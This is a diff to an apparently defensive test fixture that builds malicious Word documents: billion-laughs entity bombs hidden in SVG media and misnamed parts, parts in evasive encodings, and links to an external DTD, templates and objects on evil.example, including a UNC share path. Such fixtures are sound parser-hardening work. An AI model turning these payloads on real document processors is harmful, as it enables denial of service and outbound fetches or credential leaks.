@@ -103,6 +103,8 @@ const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({
   return `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${before};`.repeat(10)}">`;
 }).join('')}]><w:document>&j;</w:document>`;
 
+const SHIFT_JIS = '<?xml version="1.0" encoding="shift_jis"?><w:ftr/>';
+
 const utf16 = (text: string) => Buffer.from(`\ufeff${text.replace('<?xml version="1.0"?>', '')}`, 'utf16le');
 
 const linked = (type: string, target: string, mode = 'External') =>
@@ -188,9 +190,25 @@ export const bombsByContent = (): Record<string, Buffer> => ({
     entry('word/footer1.xml', LAUGHS.replace('?>', `?><!--${'-x'.repeat(100_000)}-->`)),
   ),
   'a billion laughs under another name': packedDocx(entry('word/footer.bin', LAUGHS)),
+  'a billion laughs under the name of a picture': packedDocx(entry('word/media/a.svg', LAUGHS)),
+  'a billion laughs in a picture': packedDocx(
+    entry('word/media/a.svg', LAUGHS.replace('<!DOCTYPE l', '<!DOCTYPE svg')),
+  ),
+  'a picture with a document type from elsewhere': packedDocx(
+    entry('word/media/a.svg', '<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg/>'),
+  ),
+  'a billion laughs behind white space, under another name': packedDocx(
+    entry('word/footer.bin', `${' '.repeat(20_000)}${LAUGHS.replace('<?xml version="1.0"?>', '')}`),
+  ),
   'a part in an encoding that hides what it says': packedDocx(
     entry('word/footer1.xml', '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE'),
   ),
+  'a part in such an encoding, under another name': packedDocx(entry('word/footer.bin', SHIFT_JIS)),
+  'a part in such an encoding, under the name of a picture': packedDocx(entry('word/media/a.svg', SHIFT_JIS)),
+  'a part that names such an encoding behind white space': packedDocx(
+    entry('word/footer1.xml', SHIFT_JIS.replace(' encoding', `${' '.repeat(2_000)}encoding`)),
+  ),
+  'a part in EBCDIC under another name': packedDocx(entry('word/footer.bin', Buffer.from('4c6fa79493', 'hex'))),
   'an external template': linked('attachedTemplate', 'https://evil.example/a.dotm'),
   'an external template of the network': linked('attachedTemplate', 'file:///\\\\evil.example\\share\\a.dotm'),
   'an external object': linked('oleObject', 'https://evil.example/a.bin'),
